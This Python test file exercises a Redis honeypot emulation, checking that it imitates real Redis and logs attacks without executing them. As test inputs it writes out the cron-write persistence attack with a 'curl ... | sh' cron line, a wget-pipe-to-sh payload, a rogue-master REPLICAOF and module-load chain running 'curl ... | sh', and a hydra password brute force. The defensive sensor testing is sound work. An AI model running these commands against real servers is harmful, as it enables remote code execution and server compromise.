"""
cases_redis.py - integration cases for the Redis emulation (protocol = redis, issue 9).

Imported by run.py; every @case here is appended to cases.ALL.

Real clients: redis-cli (INFO as a version check does it, the cron-write attack in one
connection: CONFIG SET dir / dbfilename, SET with the cron line, SAVE - the stored file's
sha256 is the value's), REPLICAOF to a listener of ours that must never see a connection,
hydra's redis module against requirepass (every attempt one login event), nmap -sV.
"""
import collections
import hashlib
import os
import re
import shutil
import socket
import subprocess
import time

from harness import T, Service, Skip, by, free_port, run_hydra
from cases import case, stop_and_read


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


def cli(port, *args, stdin=None):
    r = subprocess.run(["redis-cli", "-h", "127.0.0.1", "-p", str(port)] + list(args), input=stdin,
                       capture_output=True, timeout=T(10))
    assert r.returncode == 0, r.stderr
    return r.stdout.decode("utf-8", "replace")


CRON = "\n\n*/1 * * * * curl -fsSL http://198.51.100.23/kinsing.sh | sh\n\n"


@case
def redis_cli_info_and_cron_write(ctx):
    """INFO looks like the claimed server; the cron write is captured with the value's hash."""
    need("redis-cli")
    d = ctx.daemon("redis-cron", [Service("redis", protocol="redis", version="6.2.14")]).start()
    port = d.svc("redis").port
    info = cli(port, "INFO")
    assert info.startswith("# Server\r\nredis_version:6.2.14\r\n") or info.startswith("# Server\nredis_version:6.2.14\n"), info[:200]
    for want in ("os:Linux ", "run_id:", "uptime_in_seconds:", "connected_clients:", "used_memory:",
                 "role:master", "# Keyspace"):
        assert want in info, (want, info)
    run_id = re.search(r"run_id:([0-9a-f]{40})", info).group(1)
    up1 = int(re.search(r"uptime_in_seconds:(\d+)", info).group(1))
    script = ("flushall\nconfig set dir /var/spool/cron/\nconfig set dbfilename root\n"
              "set backup1 \"\\n\\n*/1 * * * * curl -fsSL http://198.51.100.23/kinsing.sh | sh\\n\\n\"\n"
              "save\nconfig get dir\ndbsize\n")
    out = cli(port, stdin=script.encode())
    assert out.split("\n")[:7] == ["OK", "OK", "OK", "OK", "OK", "dir", "/var/spool/cron"], out
    time.sleep(1.1)
    info2 = cli(port, "INFO", "server")
    assert run_id in info2 and int(re.search(r"uptime_in_seconds:(\d+)", info2).group(1)) > up1, info2
    assert "unknown command `nosuch`, with args beginning with: `x`," in cli(port, "nosuch", "x")
    sha = hashlib.sha256(CRON.encode()).hexdigest()
    d.wait_event(lambda e: e["eventid"] == "redis.file_write", what="redis.file_write")
    evs = stop_and_read(d)
    fw = by(evs, "redis.file_write")[0]
    assert fw["path"] == "/var/spool/cron/root" and fw["sha256"] == sha and fw["size"] == len(CRON), fw
    up = [e for e in by(evs, "session.file_upload") if e.get("shasum", e.get("sha256")) == sha]
    assert up and up[0]["session"] == fw["session"], by(evs, "session.file_upload")
    with open(os.path.join(d.data_dir, "payloads", sha), "rb") as f:
        assert hashlib.sha256(f.read()).hexdigest() == sha
    inputs = [e["input"] for e in by(evs, "command.input") if e["session"] == fw["session"]
              and not e["input"].startswith("COMMAND")]      # redis-cli's own start-up
    assert inputs[:3] == ["flushall", "config set dir /var/spool/cron/", "config set dbfilename root"], inputs
    assert inputs[3] == 'set backup1 "\\n\\n*/1 * * * * curl -fsSL http://198.51.100.23/kinsing.sh | sh\\n\\n"', inputs
    assert "save" in inputs
    urls = [e for e in evs if e.get("url") == "http://198.51.100.23/kinsing.sh"]
    assert urls, "the cron line's URL was not handed to the capture pipeline"
    ctx.note("cron write: %s (%d bytes)" % (sha[:16], len(CRON)))


@case
def redis_oversized_command_kept_as_payload(ctx):
    """A command larger than a connection may buffer (128 KiB) closes the connection, and what
    arrived is kept: a session.file_upload of the first 128 KiB (protocol_detail input_overflow),
    stored under its SHA-256 and mined for URLs like any upload."""
    d = ctx.daemon("redis-overflow", [Service("redis", protocol="redis")]).start()
    port = d.svc("redis").port
    value = (b"#!/bin/sh\nwget http://198.51.100.31/big.sh -O- | sh\n" + b"A" * 200000)[:200000]
    sent = b"*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$%d\r\n" % len(value) + value + b"\r\n"
    s = socket.create_connection(("127.0.0.1", port), timeout=T(10))
    try:
        s.sendall(sent)
    except OSError:
        pass                                    # closed while we were still sending
    s.close()
    d.wait_event(lambda e: e["eventid"] == "session.closed", what="session.closed")
    evs = stop_and_read(d)
    closed = by(evs, "session.closed")[0]
    assert closed.get("reason") == "input_overflow", closed
    kept = sent[:128 * 1024]
    sha = hashlib.sha256(kept).hexdigest()
    up = [e for e in by(evs, "session.file_upload") if e.get("protocol_detail") == "input_overflow"]
    assert len(up) == 1 and up[0]["shasum"] == sha and up[0]["size"] == len(kept), (up, sha)
    assert up[0]["session"] == closed["session"], up
    with open(os.path.join(d.data_dir, "payloads", sha), "rb") as f:
        assert f.read() == kept
    assert [e for e in evs if e.get("url") == "http://198.51.100.31/big.sh"], \
        "the kept input's URL was not handed to the capture pipeline"


@case
def redis_replicaof_logged_never_followed(ctx):
    """SLAVEOF/REPLICAOF to an attacker's 'master' is logged and answered; no connection is made.
    The module it would have sent loads, and its system.exec answers with what the command prints
    on the emulated machine (never run): the rogue-master attack goes on to its dropper, whose URL
    is logged."""
    need("redis-cli")
    lport = free_port()
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", lport))
    ls.listen(4)
    ls.setblocking(False)
    ctx.defer(ls.close)
    d = ctx.daemon("redis-replicaof", [Service("redis", protocol="redis")]).start()
    port = d.svc("redis").port
    out = cli(port, stdin=("MODULE LOAD /tmp/exp.so\nREPLICAOF 127.0.0.1 %d\nINFO replication\n"
                           "MODULE LOAD /tmp/exp.so\nsystem.exec \"id; echo $((7*6))\"\n"
                           "system.exec \"curl -s http://192.0.2.66/p2p.sh | sh\"\n" % lport).encode())
    assert out.startswith("ERR Error loading the extension") and "role:slave" in out, out
    assert "master_link_status:down" in out, out
    assert "\nOK\nuid=" in out and "(redis)" in out and "\n42\n" in out, out
    d.wait_event(lambda e: e["eventid"] == "redis.module_load", count=2, what="two redis.module_load")
    time.sleep(T(2))
    try:
        conn, _ = ls.accept()
        conn.close()
        raise AssertionError("the sensor connected to the 'master'")
    except BlockingIOError:
        pass
    evs = stop_and_read(d)
    ro = by(evs, "redis.replicaof")
    assert len(ro) == 1 and ro[0]["host"] == "127.0.0.1" and ro[0]["port"] == lport, ro
    ml = by(evs, "redis.module_load")
    assert [(e["path"], e["loaded"]) for e in ml] == [("/tmp/exp.so", False), ("/tmp/exp.so", True)], ml
    assert "http://192.0.2.66/p2p.sh" in {e.get("url") for e in evs}, [e["eventid"] for e in evs]


@case
def redis_auth_hydra(ctx):
    """requirepass set: NOAUTH before AUTH; hydra's redis module - every attempt is one login event."""
    need("redis-cli", "hydra")
    d = ctx.daemon("redis-hydra", [Service("redis", protocol="redis", requirepass="Sup3rSecret", version="7.0.15")]).start()
    port = d.svc("redis").port
    assert cli(port, "GET", "x").startswith("NOAUTH Authentication required"), "no NOAUTH"
    out = [l for l in cli(port, stdin=b"AUTH wrong\nAUTH Sup3rSecret\nGET x\n").split("\n") if l]
    assert out[0].startswith("WRONGPASS invalid username-password pair") and out[1] == "OK", out
    passwords = ["123456", "redis", "foobared"]
    pl = os.path.join(d.tmp, "passwords.txt")
    with open(pl, "w") as f:
        f.write("\n".join(passwords) + "\n")
    d.wait_event(lambda e: e["eventid"] == "login.success" and e["password"] == "Sup3rSecret", what="login.success")
    before = len(by(d.events(), "login.failed"))          # redis-cli's "wrong" one
    assert before == 1, by(d.events(), "login.failed")
    # hydra's redis module is password-only (it refuses -L and -C): the 3 passwords, 3 tasks
    r, out, before = run_hydra(d, ["-I", "-P", pl, "-t", "3", "-V", "-s", str(port), "127.0.0.1", "redis"])
    assert r.returncode == 0 and "0 valid password" in out, out[-2000:] + r.stderr.decode()[-1000:]
    tried = re.findall(r"\[ATTEMPT\] target \S+ - login \"([^\"]*)\" - pass \"([^\"]*)\"", out)
    assert tried, out[-2000:]
    d.wait_event(lambda e: e["eventid"] == "login.failed", count=before + len(tried), timeout=T(10),
                 what="%d login.failed" % len(tried))
    time.sleep(T(0.5))
    evs = stop_and_read(d)
    got = collections.Counter(e["password"] for e in by(evs, "login.failed")[before:])
    want = collections.Counter(p for _, p in tried)
    assert got == want, "hydra tried %r, the sensor logged %r" % (want, got)
    assert all(e["method"] == "redis_auth" for e in by(evs, "login.failed"))
    ctx.note("hydra: %d attempts, %d login.failed" % (len(tried), sum(got.values())))


@case
def redis_nmap_version(ctx):
    """nmap -sV: 'Redis key-value store' with the claimed version (its INFO probe is tried on 6379,
    the default port; elsewhere nmap's own probe file is taught the port), never a honeypot."""
    need("nmap")
    s = socket.socket()
    try:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", 6379))
        ports = [6379]
    except OSError:
        ports = None
    finally:
        s.close()
    d = ctx.daemon("redis-nmap", [Service("redis", protocol="redis", tcp_ports=ports)]).start()
    port = d.svc("redis").port
    cmd = ["nmap", "-sV", "-Pn", "-n", "-p", str(port), "127.0.0.1"]
    if port != 6379:
        src = "/usr/share/nmap/nmap-service-probes"
        if not os.path.exists(src):
            raise Skip("no nmap-service-probes")
        with open(src) as f:
            probes = f.read().replace("Probe TCP redis-server q|*1\\r\\n$4\\r\\ninfo\\r\\n|\nrarity 8\nports 6379\n",
                                      "Probe TCP redis-server q|*1\\r\\n$4\\r\\ninfo\\r\\n|\nrarity 8\nports 6379,%d\n" % port)
        with open(os.path.join(d.tmp, "nmap-service-probes"), "w") as f:
            f.write(probes)
        cmd[1:1] = ["--datadir", d.tmp]
    r = subprocess.run(cmd, capture_output=True, timeout=T(120))
    out = r.stdout.decode("utf-8", "replace")
    ver = [e for e in d.events() if e["eventid"] == "command.input"]
    info = cli(port, "INFO", "server")
    version = re.search(r"redis_version:(\S+)", info).group(1)
    line = [l for l in out.splitlines() if l.startswith("%d/tcp" % port)]
    assert line and re.match(r"^%d/tcp\s+open\s+redis\s+Redis key-value store %s$" % (port, re.escape(version)),
                             line[0]), out
    assert "honeypot" not in out.lower(), out
    ctx.note("nmap: " + re.sub(r"\s+", " ", line[0]))
    d.stop()
